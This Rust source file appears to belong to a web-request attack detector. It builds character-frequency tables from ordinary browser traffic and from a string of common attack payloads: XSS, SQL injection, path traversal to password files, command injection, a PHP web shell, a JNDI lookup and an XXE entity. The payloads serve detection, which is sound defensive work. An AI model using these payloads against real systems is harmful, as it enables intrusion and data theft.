//! Bytes as 64 symbols, so that which of them a text has fits one word, and two of them one small table.

use std::sync::LazyLock;

/// Bits of a symbol.
pub(super) const BITS: usize = 6;
/// Number of pairs of symbols.
pub(super) const PAIRS: usize = 1 << (2 * BITS);
/// The pair that stands before the first byte of a text.
pub(super) const START: usize = OTHER << BITS | OTHER;

const BLANK: u8 = 26;
const DIGIT: u8 = 27;
/// Control characters and what is not ASCII.
const OTHER_SYMBOL: u8 = 31;
/// It stands before the first byte of a text, too.
pub(super) const OTHER: usize = OTHER_SYMBOL as usize;
const PUNCTUATION: u8 = 32;

/// The symbol of each byte: letters without case, `0`, `1`, `2` and the other digits, and each sign of ASCII.
pub(super) static SYMBOL: [u8; 256] = table();

const fn table() -> [u8; 256] {
    let (mut table, mut at, mut sign) = ([OTHER_SYMBOL; 256], 0, PUNCTUATION);
    while at < 128 {
        let byte = at as u8;
        if byte.is_ascii_alphabetic() {
            table[at] = byte.to_ascii_lowercase() - b'a';
        } else if byte.is_ascii_digit() {
            table[at] = DIGIT + if byte < b'3' { byte - b'0' } else { 3 };
        } else if byte == b' ' {
            table[at] = BLANK;
        } else if byte.is_ascii_punctuation() {
            table[at] = sign;
            sign += 1;
        }
        at += 1;
    }
    table
}

/// The bit of the symbol of each byte.
pub(super) static BIT: [u64; 256] = {
    let (mut bits, mut at) = ([0; 256], 0);
    while at < 256 {
        bits[at] = 1 << SYMBOL[at];
        at += 1;
    }
    bits
};

pub(super) fn symbol(byte: u8) -> usize {
    usize::from(SYMBOL[usize::from(byte)])
}

/// The symbols of `bytes`, a bit each.
pub(super) fn set(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0, |set, byte| set | BIT[usize::from(*byte)])
}

/// What stands in most requests: pieces of it make bad needles.
const ORDINARY: &str = "mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko) chrome/131.0 \
    safari/537.36 edg/131.0|mozilla/5.0 (x11; ubuntu; linux x86_64; rv:145.0) gecko/20100101 firefox/145.0|mozilla/5.0 \
    (macintosh; intel mac os x 10_15_7) version/17.4 mobile/15e148 opr/94.0|mozilla/5.0 (compatible; msie 9.0; trident/5.0; \
    .net clr 3.5; googlebot/2.1; bingbot/2.0; +http://www.example.com/bot.html)|mozilla/5.0 (iphone; cpu iphone os 17_4 \
    like mac os x)|mozilla/5.0 (linux; android 14; pixel 8 build/ap1a) crawler feedfetcher user-agent curl/8.5.0 \
    python-requests/2.32 dalvik/2.1.0 slackbot facebookexternalhit/1.1|http://www.example.com/blog/2026/05/a-new-post.html|\
    https://www.google.com/search?q=how+to+set+up+a+server&source=web&cd=1&ved=0ccq|https://shop.example.org/products/?page=2\
    &sort=price|/images/logo.png|/static/css/style.css|/assets/js/jquery.min.js|/favicon.ico|/robots.txt|/index.php|/login|\
    /wp-content/uploads/photo.jpg|/downloads/files/presentation.pdf|/articles/category/feed/?flav=rss20|/api/v1/users/1234/\
    orders|/projects/tools|/tag/linux|category=shoes|user_id=42|name=anna|comment=thank you for the quick answer, it works now. \
    the order and the address are right; can you send it to the new house in the street that we named? best regards|\
    support for web logs and blogs, questions and answers, a market of makers, other sources, channel and handle; fetch the \
    current document, the marker and the parameters; a story of the last summer, from the north to the south, and its songs. \
    date=2026-11-29|lang=en-us|token=|session=|action=view|id=10|type=text|title=|email=|first second third list of items \
    with more than one line from which to select a few";

/// What stands in most attacks and in code: found by pieces of it, each would try the patterns of all others.
const ODD: &str = "<script>alert('xss')</script>|\"><img src=x onerror=alert(1)>|javascript:alert(document.cookie)|\
    <svg/onload=prompt(1)>|<a href=\"javascript:confirm(\"x\")\">|<body onload=\"alert('1')\">|<iframe src=http://h/></iframe>|\
    ' or '1'='1' -- |1' and 1=1#|1) or (1=1|\" or \"a\"=\"a|' union all select null,null,concat(user,password) from users-- |\
    1;select sleep(5)--|(select char(113) from information_schema.tables where 1=2)|admin'--|order by 10--|waitfor delay '0:0:5'|\
    ../../../../etc/passwd|..\\..\\..\\windows\\win.ini|/..%2f..%2f|....//....//etc/shadow|/proc/self/environ|\
    file:///c:/boot.ini|http://192.168.0.1/shell.txt?|;cat /etc/hosts|`id`|$(whoami)|| ping -c 1 127.0.0.1|&& dir c:\\|\
    <?php system($_get['cmd']); ?>|{{7*7}}|${jndi:ldap://h/a}|<!doctype a [<!entity b system \"file:///etc/passwd\">]>|\
    (&(uid=*))|{\"$gt\":\"\"}|__class__|exec('a')|eval(\"b\")|function(){return this.a[0]}|000000|11111";

/// How often pieces of text are met.
pub(super) struct Frequencies {
    singles: [f32; 1 << BITS],
    pairs: Vec<f32>,
    triples: Vec<f32>,
    count: f32,
}

/// Those of ordinary requests.
pub(super) static FREQUENCIES: LazyLock<Frequencies> = LazyLock::new(|| {
    let mut all = Frequencies {
        singles: [0.2; 1 << BITS],
        pairs: vec![0.0; PAIRS],
        triples: vec![0.0; PAIRS << BITS],
        count: (ORDINARY.len() + ODD.len()) as f32,
    };
    let (mut first, mut second) = (OTHER, OTHER);
    for byte in ORDINARY.bytes().chain(ODD.bytes()) {
        let third = symbol(byte);
        all.triples[(first << BITS | second) << BITS | third] += 1.0;
        all.pairs[second << BITS | third] += 1.0;
        all.singles[third] += 1.0;
        (first, second) = (second, third);
    }
    all
});

impl Frequencies {
    /// How often the piece, of one to three bytes, stands at a place of an ordinary text. What was never met is
    /// guessed from its parts.
    pub(super) fn of(&self, piece: &[u8]) -> f32 {
        let index = piece.iter().fold(0, |index, byte| index << BITS | symbol(*byte));
        let met = match piece.len() {
            1 => 0.0,
            2 => self.pairs[index],
            _ => self.triples[index],
        };
        let parts: f32 =
            piece.iter().map(|byte| self.singles[symbol(*byte)] / self.count).product();
        met / self.count + parts
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bytes_share_a_symbol_where_the_difference_seldom_matters() {
        for (one, other, shared) in [
            (b'a', b'A', true),
            (b'z', b'Z', true),
            (b'a', b'b', false),
            (b'0', b'1', false),
            (b'1', b'2', false),
            (b'2', b'3', false),
            (b'3', b'9', true),
            (0, 0x1f, true),
            (0, 0x7f, true),
            (0, 0xff, true),
            (b' ', 0, false),
            (b'/', b':', false),
            (b'[', b'{', false),
        ] {
            assert_eq!(symbol(one) == symbol(other), shared, "{one:#x} {other:#x}");
            assert_eq!(BIT[usize::from(one)], 1 << symbol(one), "{one:#x}");
        }
        for byte in 0..=u8::MAX {
            let others = (0..=u8::MAX).filter(|other| symbol(*other) == symbol(byte)).count();
            let sign = byte == b' ' || byte.is_ascii_punctuation();
            assert!(!sign || others == 1, "{byte:#x}");
            assert!(symbol(byte) < 1 << BITS, "{byte:#x}");
        }
        assert_eq!(set(b"ab a"), 1 << symbol(b'a') | 1 << symbol(b'b') | 1 << symbol(b' '));
    }

    #[test]
    fn what_is_met_more_often_costs_more() {
        for (often, seldom) in [
            (&b"e"[..], &b"q"[..]),
            (b"th", b"qz"),
            (b"moz", b"qjx"),
            (b"moz", b"zom"),
            (b"th", b"ht"),
            (b"../", b"/.;"),
            (b"q", b"qj"),
            (b"qj", b"qjx"),
        ] {
            let (often, seldom) = (FREQUENCIES.of(often), FREQUENCIES.of(seldom));
            assert!(often > seldom && seldom > 0.0 && often < 1.0, "{often} {seldom}");
        }
    }
}
